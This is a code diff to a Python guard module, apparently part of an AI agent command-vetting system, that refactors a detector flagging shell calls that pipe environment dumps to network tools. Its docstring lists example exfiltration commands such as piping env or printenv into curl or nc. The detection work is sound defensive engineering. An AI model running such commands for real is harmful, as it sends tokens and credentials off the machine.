@@ -373,13 +373,7 @@ _ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare"})
 def exfiltration(judge: Scope, call: Call) -> Verdict | None:
     """`env | curl --data-binary @- …`, `printenv | nc host 80`, `curl -d "$(env)" …`: the
     whole environment (tokens included) sent over the network."""
-    from agentops_os.guard.shell import commands_of
-
-    sources = list(call.upstream)
-    for word in call.args:  # `-d "$(env)"`, `--data @<(printenv)`
-        for tokens in word.subs:
-            sources.extend(commands_of(tokens))
-    for command in sources:
+    for command in [*call.upstream, *_sub_commands(call)]:  # `-d "$(env)"`, `--data @<(printenv)`
         if command.words and command.words[0].text.rsplit("/", 1)[-1] in _ENV_DUMPS:
             source = command.words[0].text  # e.g. env
             reason = f"{call.name} sends the output of {source}, every token in the environment, out"
